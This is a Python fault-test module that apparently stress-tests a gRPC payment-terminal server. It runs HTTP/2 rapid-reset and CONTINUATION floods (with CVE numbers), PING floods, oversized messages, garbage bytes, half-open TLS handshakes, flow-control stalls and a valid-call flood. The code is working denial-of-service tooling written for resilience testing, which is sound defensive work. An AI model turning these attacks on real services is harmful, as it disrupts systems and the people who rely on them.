"""The attacks, each in a process of its own that goes on until it is killed: `python -m tests.faults.attacks NAME ...`.

The attacker has the certificate of one till: what a stranger without one can do is less, and among these too.
"""

import asyncio
import itertools
import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress
from pathlib import Path

import grpc

from coalition.client import ClientCertificate, new_request_id
from coalition.v1 import operations_pb2
from coalition.v1.terminal_pb2_grpc import TerminalServiceStub
from tests.faults import hostile

HEALTH = "/grpc.health.v1.Health/Check"
PURCHASE = "/coalition.v1.TerminalService/Purchase"
HANDSHAKES = 200
FLOOD_CONNECTIONS = 24
FLOOD_AT_ONCE = 8
PAUSE_SECONDS = 0.05
"""After a connection was ended: an attacker is no slower for it, and the machine of the test has two cores."""


def rapid_reset(address: str, folder: Path) -> None:
    """Streams begun and reset as fast as they can be written (CVE-2023-44487)."""
    with hostile.http2(address, folder) as connection:
        connection.settimeout(hostile.SECONDS)
        for first in itertools.count(1, 200):
            streams = range(first, first + 200, 2)
            headers = hostile.call_headers(PURCHASE)
            connection.sendall(
                b"".join(
                    hostile.frame(hostile.HEADERS, hostile.END_HEADERS, stream, headers)
                    + hostile.frame(hostile.RST_STREAM, 0, stream, struct.pack(">I", hostile.CANCEL))
                    for stream in streams
                )
            )


def ping_flood(address: str, folder: Path) -> None:
    with hostile.http2(address, folder) as connection:
        connection.settimeout(1.0)  # a server that has had enough reads no more
        while True:
            connection.sendall(hostile.frame(hostile.PING, 0, 0, b"12345678") * 200)


def endless_headers(address: str, folder: Path) -> None:
    """A header block that goes on and on in CONTINUATION frames (CVE-2024-27316 and its kin)."""
    with hostile.http2(address, folder) as connection:
        connection.sendall(hostile.frame(hostile.HEADERS, 0, 1, hostile.call_headers(PURCHASE)))
        while True:
            connection.sendall(hostile.frame(hostile.CONTINUATION, 0, 1, hostile.field("x-much", "y" * 4_000)))


def big_messages(address: str, folder: Path) -> None:
    """Messages that say they have 2 GiB, that have 2 MiB, and that are groups 60,000 deep."""
    with hostile.http2(address, folder) as connection:
        connection.settimeout(hostile.SECONDS)
        for stream in itertools.count(1, 2):
            headers = hostile.frame(hostile.HEADERS, hostile.END_HEADERS, stream, hostile.call_headers(PURCHASE))
            kind = stream // 2 % 3
            if kind == 0:
                body = b"\x00\x7f\xff\xff\xff" + b"1" * 8_000
            elif kind == 1:
                body = b"\x00" + struct.pack(">I", 2 << 20) + b"1" * 8_000
            else:
                body = hostile.message(b"\x23" * 8_000)
            connection.sendall(headers + hostile.frame(hostile.DATA, hostile.END_STREAM, stream, body))
            time.sleep(0.002)


def garbage_inside(address: str, folder: Path) -> None:
    with hostile.tls(address, folder) as connection:
        connection.sendall(os.urandom(16_384))
        hostile.is_closed(connection, 2)


def garbage_outside(address: str, folder: Path) -> None:
    with hostile.tcp(address) as connection:
        connection.sendall(os.urandom(4_096))
        connection.settimeout(2)
        connection.recv(1_024)


def half_handshakes(address: str, folder: Path) -> None:
    """Connections that begin a handshake and never go on; ended ones are opened again."""
    # The head of a TLS record that announces 16 KiB of ClientHello, of which nothing follows.
    beginning = b"\x16\x03\x01\x40\x00\x01"
    with ExitStack() as stack:
        sockets: list[socket.socket] = []
        while True:
            for each in [each for each in sockets if _has_ended(each)]:
                sockets.remove(each)
            while len(sockets) < HANDSHAKES:
                connection = stack.enter_context(hostile.tcp(address))
                connection.sendall(beginning)
                connection.setblocking(False)
                sockets.append(connection)
            time.sleep(0.2)


def unread_answers(address: str, folder: Path) -> None:
    """Calls whose answers the flow control never lets out: each would hold its place for ever."""
    window = struct.pack(">HI", hostile.INITIAL_WINDOW_SIZE, 0)
    with ExitStack() as stack:
        connections = [stack.enter_context(hostile.http2(address, folder, window)) for _ in range(12)]
        for stream in itertools.count(1, 2):
            for connection in connections:
                connection.sendall(hostile.call(stream, HEALTH, b""))
            time.sleep(0.01)


def valid_flood(address: str, folder: Path) -> None:
    """Well-formed calls of one identity, from many connections at once, each as soon as the one before is answered."""
    asyncio.run(_flood(address, folder))


async def _flood(address: str, folder: Path) -> None:
    credentials = ClientCertificate.load_folder(folder).credentials()
    options = [("grpc.use_local_subchannel_pool", 1)]
    channels = [grpc.aio.secure_channel(address, credentials, options=options) for _ in range(FLOOD_CONNECTIONS)]

    async def client(channel: grpc.aio.Channel) -> None:
        stub = TerminalServiceStub(channel)
        while True:
            request = operations_pb2.PurchaseRequest(
                request_id=new_request_id(), card_number="9000000000000000", amount_minor=1, currency_code="CNY"
            )
            with suppress(grpc.RpcError):
                await stub.Purchase(request, timeout=10)

    await asyncio.gather(*(client(channel) for channel in channels for _ in range(FLOOD_AT_ONCE)))


def _has_ended(connection: socket.socket) -> bool:
    try:
        return not connection.recv(1_024)
    except BlockingIOError:
        return False
    except OSError:
        return True


ATTACKS: dict[str, Callable[[str, Path], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        ping_flood,
        endless_headers,
        big_messages,
        garbage_inside,
        garbage_outside,
        half_handshakes,
        unread_answers,
        valid_flood,
    )
}


def main(name: str, address: str, folder: str) -> None:
    """Attack until killed; connections that the server ended are counted on standard output, a dot each."""
    os.nice(10)  # an attacker is another machine: it must not take this one's processor from the server
    while True:
        with suppress(OSError):
            ATTACKS[name](address, Path(folder))
        sys.stdout.write(".")
        sys.stdout.flush()
        time.sleep(PAUSE_SECONDS)


if __name__ == "__main__":
    main(*sys.argv[1:])
